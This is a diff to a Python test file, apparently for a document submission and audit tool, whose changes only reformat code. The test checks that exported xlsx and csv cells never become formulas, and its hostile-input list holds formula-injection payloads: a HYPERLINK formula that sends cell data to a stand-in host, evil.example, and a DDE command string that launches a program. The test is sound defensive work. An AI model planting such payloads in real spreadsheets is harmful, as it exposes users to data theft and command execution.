@@ -216,7 +216,7 @@ def test_file_format_without_output_writes_default_name(
 
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
@@ -237,7 +237,9 @@ def test_spreadsheet_cells_never_become_formulas(
         doc = write_doc(tmp_path, f"h{i}.txt", "pass", salt=str(i))
         cli_json(runner, office, "张三", "submit", str(doc), "--title", title, "--dept", "办公室")
     rej = write_doc(tmp_path, "r.html", "review")
-    sid = cli_json(runner, office, "张三", "submit", str(rej), "--title", "普通标题", "--dept", "办公室")["id"]
+    sid = cli_json(
+        runner, office, "张三", "submit", str(rej), "--title", "普通标题", "--dept", "办公室"
+    )["id"]
     ok(cli(runner, office, "审查员甲", "review", sid, "--reject", "--comment", "=1+2 请修改"))
     xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
     ok(cli(runner, office, AUDITOR, "audit", "--format", "xlsx", "-o", str(xlsx)))
